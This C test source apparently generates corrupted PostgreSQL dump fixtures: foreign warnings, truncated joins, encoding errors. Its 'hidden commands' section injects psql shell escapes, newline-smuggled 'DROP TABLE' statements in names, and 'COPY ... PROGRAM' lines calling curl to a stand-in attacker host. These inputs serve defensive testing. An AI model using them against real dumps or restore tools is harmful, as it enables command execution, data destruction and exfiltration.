/* SPDX-License-Identifier: PostgreSQL */
/* Faults that something else wrote into the dump, that joining made, or that hide a command. */
#include "faults/base.h"
#include "faults/edit.h"
#include "faults/faults.h"
#include "lib/bytes.h"

#define HEADER "--\n-- PostgreSQL database dump\n--\n"

/* A line between two statements. */
static struct slice with_line(struct arena *a, struct slice in, const char *line)
{
    return edit_splice(a, in, edit_find(in, "CREATE TYPE public."), 0, slice_of(line));
}

static struct slice from(struct slice in, size_t at)
{
    return (struct slice){in.p + at, in.n - at};
}

/* ---- lines of other programs -------------------------------------------------------------------
 */

struct slice fault_stderr_in_front(struct arena *a, struct slice in)
{
    return bytes_join(a, slice_of("pg_dump: warning: there are circular foreign keys\n"), in);
}

struct slice fault_stderr_behind_the_end(struct arena *a, struct slice in)
{
    return bytes_join(a, in, slice_of("pg_dump: warning: there are circular foreign keys\n"));
}

struct slice fault_ssh_warning_in_front(struct arena *a, struct slice in)
{
    return bytes_join(a, slice_of("Warning: Permanently added 'db' (ED25519) to the list.\r\n"),
                      in);
}

struct slice fault_mysql_warning_in_front(struct arena *a, struct slice in)
{
    return bytes_join(a, slice_of("mysqldump: [Warning] Using a password is insecure.\n"), in);
}

struct slice fault_php_warning_between(struct arena *a, struct slice in)
{
    return with_line(a, in, "PHP Warning:  Undefined variable $x in backup.php on line 3\n");
}

struct slice fault_html_between(struct arena *a, struct slice in)
{
    return with_line(a, in, "<html><head><title>504 Gateway Time-out</title></head></html>\n");
}

struct slice fault_byte_order_mark_between(struct arena *a, struct slice in)
{
    return bytes_join(a, in, bytes_join(a, slice_of("\xef\xbb\xbf"), in));
}

struct slice fault_line_endings_mixed(struct arena *a, struct slice in)
{
    return bytes_join(a, base_fixture(a, "crlf-15.sql"), in);
}

struct slice fault_psql_variable(struct arena *a, struct slice in)
{
    return bytes_join(a, slice_of("ALTER ROLE postgres SET search_path = :path;\n"), in);
}

/* ---- joined ------------------------------------------------------------------------------------
 */

struct slice fault_beginning_lost(struct arena *a, struct slice in)
{
    (void)a;
    return from(in, edit_find(in, "CREATE TYPE public."));
}

struct slice fault_cut_in_a_statement_and_joined(struct arena *a, struct slice in)
{
    return bytes_join(a, edit_cut(in, edit_find(in, "ONLY public.parent\n") + 18),
                      bytes_join(a, slice_of("\n"), in));
}

struct slice fault_cut_behind_a_statement_and_joined(struct arena *a, struct slice in)
{
    return bytes_join(a, edit_cut_at(in, "--\n-- Name: parent parent_pkey"), in);
}

struct slice fault_quotes_left_open_and_joined(struct arena *a, struct slice in)
{
    return bytes_join(a, edit_cut(in, edit_find(in, "so so") + 2), in);
}

struct slice fault_cluster_trailer_dropped(struct arena *a, struct slice in)
{
    in = base_fixture(a, "cluster-15.sql");
    return edit_replace(a, in, "-- PostgreSQL database cluster dump complete\n", "");
}

struct slice fault_cluster_header_dropped(struct arena *a, struct slice in)
{
    in = base_fixture(a, "cluster-15.sql");
    return edit_replace(a, in, "-- PostgreSQL database cluster dump\n", "");
}

struct slice fault_cluster_cut_between_databases(struct arena *a, struct slice in)
{
    (void)in;
    return edit_cut_at(base_fixture(a, "cluster-15.sql"), "--\n-- Database \"postgres\" dump");
}

struct slice fault_cluster_without_an_inner_trailer(struct arena *a, struct slice in)
{
    in = base_fixture(a, "cluster-15.sql");
    return edit_replace(a, in, "-- PostgreSQL database dump complete\n", "");
}

struct slice fault_cluster_with_an_unrestrict_dropped(struct arena *a, struct slice in)
{
    in = base_fixture(a, "cluster-15.sql");
    return edit_replace(a, in, "\n\\unrestrict ", "\n-- unrestrict ");
}

struct slice fault_connect_while_restricted(struct arena *a, struct slice in)
{
    return with_line(a, in, "\\connect other\n");
}

/* ---- hidden commands ---------------------------------------------------------------------------
 */

struct slice fault_restrict_with_backquotes(struct arena *a, struct slice in)
{
    return edit_replace(a, in, "\\restrict ", "\\restrict `id`");
}

struct slice fault_newline_in_a_name_with_sql(struct arena *a, struct slice in)
{
    return edit_replace(a, in, "-- Name: secret; Type: TABLE",
                        "-- Name: x\nDROP TABLE t;\n-- ; Type: TABLE");
}

struct slice fault_newline_in_a_database_name(struct arena *a, struct slice in)
{
    in = base_fixture(a, "cluster-15.sql");
    return edit_replace(a, in, "-- Database \"postgres\" dump",
                        "-- Database \"x\nDROP TABLE t;\n-- \" dump");
}

struct slice fault_command_behind_a_carriage_return(struct arena *a, struct slice in)
{
    return with_line(a, in, "-- a comment\r\\! id\n");
}

/* To psql the string is over behind the backslash. */
struct slice fault_command_in_an_escape_string(struct arena *a, struct slice in)
{
    return with_line(a, in, "SELECT E'a'\n'\\'; \\! id -- ';\n");
}

struct slice fault_copy_from_a_program(struct arena *a, struct slice in)
{
    return with_line(a, in, "COPY t (a) FROM PROGRAM 'curl evil.example';\n");
}

struct slice fault_copy_to_a_program(struct arena *a, struct slice in)
{
    return with_line(a, in, "COPY (SELECT 'x' FROM t) TO PROGRAM 'curl evil.example';\n");
}

struct slice fault_copy_from_a_file(struct arena *a, struct slice in)
{
    return with_line(a, in, "COPY t FROM '/var/tmp/t.csv' WITH (FORMAT csv);\n");
}

struct slice fault_echo(struct arena *a, struct slice in)
{
    return with_line(a, in, "\\echo 'half way'\n");
}

struct slice fault_text_behind_the_head_of_copy(struct arena *a, struct slice in)
{
    return with_line(a, in, "COPY t (a) FROM stdin; \\! id\n1\n\\.\n");
}

/* ---- data --------------------------------------------------------------------------------------
 */

struct slice fault_terminator_with_a_carriage_return(struct arena *a, struct slice in)
{
    return edit_replace(a, in, "\n\\.\n", "\n\\.\r\n");
}

struct slice fault_rows_of_csv(struct arena *a, struct slice in)
{
    return with_line(a, in, "COPY t (a, b) FROM stdin WITH (FORMAT csv);\n1,\"x\ny\"\n\\.\n");
}

#define UTF8 "SET client_encoding = 'UTF8';"

static struct slice with_encoding(struct arena *a, struct slice in, const char *name)
{
    return edit_replace(a, in, UTF8, arena_printf(a, "SET client_encoding = '%s';", name));
}

struct slice fault_sql_ascii_with_latin1(struct arena *a, struct slice in)
{
    return with_encoding(a, edit_replace(a, in, "\xc3\xa4", "\xe4"), "SQL_ASCII");
}

struct slice fault_latin1_without_declaration(struct arena *a, struct slice in)
{
    return edit_replace(a, edit_replace(a, in, "\xc3\xa4", "\xe4"), UTF8, "");
}

struct slice fault_latin1_before_the_encoding_changes(struct arena *a, struct slice in)
{
    return bytes_join(a, fault_latin1_in_copy(a, in), base_fixture(a, "latin1-15.sql"));
}

/* A new session does not know what the old one declared. */
struct slice fault_encoding_lost_by_connect(struct arena *a, struct slice in)
{
    in = base_fixture(a, "latin1-15.sql");
    return edit_replace(a, in, "SET check_function_bodies",
                        "\\connect x\nSET check_function_bodies");
}

struct slice fault_broken_euc_jp(struct arena *a, struct slice in)
{
    return with_encoding(a, edit_replace(a, in, "\xc3\xa4", "\xa4 "), "EUC_JP");
}

struct slice fault_broken_sjis(struct arena *a, struct slice in)
{
    in = base_fixture(a, "sjis-15.sql");
    return edit_replace(a, in, "\x83\x5c", "\x83 ");
}

struct slice fault_encoding_that_is_none(struct arena *a, struct slice in)
{
    return with_encoding(a, in, "EBCDIC");
}
